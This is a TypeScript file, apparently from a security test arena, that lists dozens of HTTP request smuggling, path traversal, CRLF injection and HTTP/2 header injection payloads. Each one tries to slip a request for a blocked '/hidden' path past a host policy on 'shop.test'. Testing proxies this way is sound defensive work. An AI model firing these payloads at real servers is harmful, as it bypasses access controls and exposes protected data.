import type { AttackGroup } from '../../attack.ts';
import type { NetworkArena } from '../arena.ts';
import { bytes, message, requested, tries } from '../tries.ts';

/** Of this host policy allows `/open` and what is below it; the mark stands in a request beside it. */
const host = 'Host: shop.test';
const close = 'Connection: close';
const chunked = 'Transfer-Encoding: chunked';
const hidden = (mark: string) => message('GET', `/hidden/${mark}`, [host]);
const end = '0\r\n\r\n';
/** Bytes inside TLS, in one piece or several. */
const sends = (name: string, ...pieces: Array<(mark: string) => string>) =>
  tries(name, {
    python: (mark) => `inside('shop.test:443', ${pieces.map((piece) => bytes(piece(mark))).join(', ')})`,
    success: requested,
  });
const post = (headers: string[], body: string) => message('POST', '/open', [host, ...headers], body);
/** A length that says less than a chunked body holds, or the other way round. */
const both = (name: string, ...headers: string[]) =>
  sends(name, (mark) => post(['Content-Length: 5', ...headers], `${end}${hidden(mark)}`));
const target = (name: string, write: (mark: string) => string) =>
  sends(name, (mark) => message('GET', write(mark), [host, close]));
const stream = (name: string, pairs: (mark: string) => string, body?: (mark: string) => string) =>
  tries(name, {
    python: (mark) => {
      const data = body ? ` + frame(0, 1, 1, ${bytes(body(mark))})` : '';
      return `s = h2('shop.test:443'); s.sendall(frame(1, ${body ? 4 : 5}, 1, fields(${pairs(mark)}))${data}); read(s)`;
    },
    success: requested,
  });
const pseudo = (path: string, method = 'GET') =>
  `(':method', '${method}'), (':scheme', 'https'), (':authority', 'shop.test'), (':path', ${JSON.stringify(path)})`;

/** Bytes that one reader takes for one request, another for two. The servers of the world read as leniently as any. */
export const framing: AttackGroup<NetworkArena> = {
  name: 'two requests in one',
  harm: 'leak',
  control: sends(
    'two requests, both allowed',
    () => message('GET', '/open', [host]),
    (mark) => message('GET', `/open/${mark}`, [host, close]),
  ),
  attacks: [
    both('length and chunks', chunked),
    sends('chunks and length', (mark) => post([chunked, 'Content-Length: 5'], `${end}${hidden(mark)}`)),
    both('an unknown coding', 'Transfer-Encoding: xchunked'),
    both('white space before the colon', 'Transfer-Encoding : chunked'),
    both('a control character in the coding', 'Transfer-Encoding: \x0bchunked'),
    both('a tab before the coding', 'Transfer-Encoding:\tchunked'),
    both('a coding twice', chunked, 'Transfer-Encoding: identity'),
    both('chunked, then nothing', 'Transfer-Encoding: chunked, identity'),
    both('chunked in quotes', 'Transfer-Encoding: "chunked"'),
    both('the coding folded', 'Transfer-Encoding:\r\n chunked'),
    both('the coding behind a bare line feed', 'X: y\nTransfer-Encoding: chunked'),
    both('the coding behind a bare carriage return', 'X: y\rTransfer-Encoding: chunked'),
    both('a zero byte in a name', 'Transfer\0-Encoding: chunked'),
    sends('two lengths', (mark) =>
      post(['Content-Length: 0', `Content-Length: ${hidden(mark).length}`], hidden(mark)),
    ),
    sends('two lengths in one header', (mark) =>
      post([`Content-Length: 0, ${hidden(mark).length}`], hidden(mark)),
    ),
    sends('a length with a sign', (mark) => post(['Content-Length: +0'], hidden(mark))),
    sends('a negative length', (mark) => post(['Content-Length: -1'], hidden(mark))),
    sends('a length in hex', (mark) => post(['Content-Length: 0x0'], hidden(mark))),
    sends('a length with white space inside', (mark) => post(['Content-Length: 0 0'], hidden(mark))),
    sends('a length that Connection names', (mark) =>
      post([`Content-Length: ${hidden(mark).length}`, 'Connection: content-length'], hidden(mark)),
    ),
    sends('a coding that Connection names', (mark) =>
      post(
        [chunked, 'Connection: transfer-encoding'],
        `${hidden(mark).length.toString(16)}\r\n${hidden(mark)}\r\n${end}`,
      ),
    ),
    sends('a chunk that is longer than it says', (mark) => post([chunked], `0\r\n\r\n${hidden(mark)}`)),
    sends('a chunk size that overflows', (mark) => post([chunked], `10000000000000000\r\n${hidden(mark)}`)),
    sends('a line feed in a chunk extension', (mark) =>
      post([chunked], `1;x\ny\r\na\r\n0\r\n\r\n${hidden(mark)}`),
    ),
    sends('a chunk ended by a bare line feed', (mark) => post([chunked], `0\n\n${hidden(mark)}`)),
    sends('trailers that are a request', (mark) => post([chunked], `0\r\nX: y\r\n${hidden(mark)}`)),
    sends('a trailer of framing', (mark) =>
      post([chunked], `0\r\nContent-Length: 0\r\nHost: shop.test\r\n\r\n${hidden(mark)}`),
    ),
    sends('pipelined behind an allowed one', (mark) => message('GET', '/open', [host]) + hidden(mark)),
    sends('pipelined behind a refused one', (mark) => message('GET', '/refused', [host]) + hidden(mark)),
    sends('a body where GET has none', (mark) => message('GET', '/open', [host], hidden(mark))),
    sends('a body where none is awaited', (mark) =>
      message('HEAD', '/open', [host, `Content-Length: ${hidden(mark).length}`], hidden(mark)),
    ),
    sends('a body before it was asked for', (mark) =>
      post(['Expect: 100-continue', 'Content-Length: 4'], hidden(mark)),
    ),
    sends('an unknown expectation', (mark) => post(['Expect: 200-ok', 'Content-Length: 0'], hidden(mark))),
    sends(
      'an upgrade to HTTP/2',
      (mark) =>
        message('GET', '/open', [
          host,
          'Connection: Upgrade, HTTP2-Settings',
          'Upgrade: h2c',
          'HTTP2-Settings: AAMAAABkAAQAAP__',
        ]) + hidden(mark),
    ),
    sends(
      'behind a WebSocket that nobody grants',
      (mark) =>
        message('GET', '/open', [host, 'Connection: Upgrade', 'Upgrade: websocket', 'Content-Length: 0']) +
        hidden(mark),
    ),
    sends('a WebSocket with a body', (mark) =>
      message(
        'POST',
        '/open',
        [host, 'Connection: Upgrade', 'Upgrade: websocket', `Content-Length: ${hidden(mark).length}`],
        hidden(mark),
      ),
    ),
    sends('a method with a space', (mark) =>
      `GET /hidden/${mark} HTTP/1.1\r\nX: GET /open HTTP/1.1\r\n${host}\r\n\r\n`.replace('GET', 'GET\t'),
    ),
    sends('HTTP/0.9', (mark) => `GET /hidden/${mark}\r\n`),
    sends(
      'HTTP/1.0 with chunks',
      (mark) => `POST /open HTTP/1.0\r\n${host}\r\n${chunked}\r\n\r\n${end}${hidden(mark)}`,
    ),
    sends('HTTP/2 words on HTTP/1', (mark) => `PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n${hidden(mark)}`),
    target('a path upwards', (mark) => `/open/../hidden/${mark}`),
    target('a path upwards, escaped', (mark) => `/open/%2e%2e/hidden/${mark}`),
    target('a path upwards, its slash escaped', (mark) => `/open/..%2fhidden/${mark}`),
    target('a path upwards, escaped twice', (mark) => `/open/%252e%252e/hidden/${mark}`),
    target('a path upwards by backslash', (mark) => `/open\\..\\hidden\\${mark}`),
    target('a path upwards with a parameter', (mark) => `/open/..;/hidden/${mark}`),
    target('two slashes', (mark) => `//open/../hidden/${mark}`),
    target('an escaped line end', (mark) => `/open%0d%0a%0d%0aGET%20/hidden/${mark}%20HTTP/1.1`),
    target('a fragment', (mark) => `/open#/../../hidden/${mark}`),
    target('an absolute target of the same host', (mark) => `https://shop.test/hidden/${mark}`),
    stream(
      'HTTP/2: a line end in a header',
      (mark) =>
        `*(${pseudo('/open')}), ('x', b'a\\r\\n\\r\\nGET /hidden/${mark} HTTP/1.1\\r\\nHost: shop.test\\r\\n\\r\\n')`,
    ),
    stream('HTTP/2: a line end in the path', (mark) =>
      pseudo(`/open HTTP/1.1\r\nHost: shop.test\r\n\r\nGET /hidden/${mark}`),
    ),
    stream('HTTP/2: a space in the path', (mark) => pseudo(`/open HTTP/1.1 /hidden/${mark}`)),
    stream('HTTP/2: a line end in the method', (mark) =>
      pseudo('/open', `GET /hidden/${mark} HTTP/1.1\\r\\nX: `),
    ),
    stream(
      'HTTP/2: a coding',
      () => `*(${pseudo('/open', 'POST')}), ('transfer-encoding', 'chunked')`,
      (mark) => `${end}${hidden(mark)}`,
    ),
    stream(
      'HTTP/2: a length that is too short',
      () => `*(${pseudo('/open', 'POST')}), ('content-length', '0')`,
      hidden,
    ),
    stream('HTTP/2: two paths', (mark) => `*(${pseudo('/open')}), (':path', '/hidden/${mark}')`),
    stream(
      'HTTP/2: the path after a header',
      (mark) =>
        `(':method', 'GET'), (':scheme', 'https'), (':authority', 'shop.test'), ('x', 'y'), (':path', '/hidden/${mark}')`,
    ),
    stream(
      'HTTP/2: a header with a colon in its name',
      (mark) => `*(${pseudo('/open')}), ('x: y\\r\\nget /hidden/${mark}', 'z')`,
    ),
  ],
};
